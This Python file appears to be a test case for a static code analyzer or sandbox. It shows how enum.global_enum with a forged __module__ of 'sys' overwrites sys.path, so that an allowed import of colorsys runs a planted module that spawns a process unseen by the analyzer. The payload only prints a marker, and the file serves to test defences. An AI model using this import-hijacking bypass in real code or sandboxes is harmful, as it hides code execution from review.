# family: library_stores
# reaches: process
# layer: static
# static: missed
# enum.global_enum (reviewed) exports an enum's members into sys.modules[cls.__module__].__dict__:
# a class body's __module__ = "sys" (judged only where an annotation evaluator is named) makes it
# write the member `path` over sys.path. The member iterates over a directory the program wrote
# first, so the allowed `import colorsys` runs the program's own colorsys.py, never analyzed.
import enum
import os
import sys
import tempfile

PLUGIN_DIR = tempfile.mkdtemp()
with open(os.path.join(PLUGIN_DIR, "colorsys.py"), "w") as fh:
    fh.write(
        "import os\n"
        "pid = os.posix_spawn('/usr/bin/python3', ['python3', '-c', 'print(\"reached: process\")'], {})\n"
        "os.waitpid(pid, 0)\n"
        "def rgb_to_hsv(r, g, b):\n"
        "    return (r, g, b)\n"
    )
SEARCH = [PLUGIN_DIR] + list(sys.path)


@enum.global_enum
class Lookup(enum.Enum):
    """Where plugins are looked up, in order."""

    __module__ = "sys"
    path = "plugins"

    def __iter__(self):
        return iter(SEARCH)


import colorsys  # noqa: E402

print(colorsys.rgb_to_hsv(0.2, 0.4, 0.4))
